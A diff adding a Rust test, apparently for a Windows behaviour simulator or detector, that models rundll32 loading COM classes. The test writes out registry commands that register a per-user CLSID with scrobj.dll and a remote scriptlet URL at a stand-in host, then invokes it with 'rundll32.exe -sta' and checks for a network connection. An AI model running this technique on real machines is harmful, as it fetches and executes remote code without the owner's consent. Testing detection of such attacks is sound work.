@@ -55,3 +55,24 @@ fn a_library_that_was_written_there_is_nobodys() {
         host.changes()
     );
 }
+
+#[test]
+fn a_class_is_no_library() {
+    let class = "{00000001-0000-0000-0000-0000FEEDACDC}";
+    for option in ["-sta", "-localserver", "/sta"] {
+        let mut host = Host::new();
+        host.run(&format!("rundll32.exe {option} {class}"));
+        assert!(loaded(&host).is_empty(), "{option}");
+    }
+    let mut host = Host::new();
+    host.run(&format!(
+        r"reg add HKCU\Software\Classes\CLSID\{class}\InprocServer32 /ve /d C:\Windows\System32\scrobj.dll /f"
+    ));
+    host.run(&format!(
+        r"reg add HKCU\Software\Classes\CLSID\{class}\ScriptletURL /ve /d https://scripts.example/a.sct /f"
+    ));
+    host.run(&format!("rundll32.exe -sta {class}"));
+    assert_eq!(loaded(&host)[0].0, r"C:\Windows\System32\scrobj.dll");
+    let changes = host.changes().join("\n");
+    assert!(changes.contains("rundll32.exe: connect 443"), "{changes}");
+}
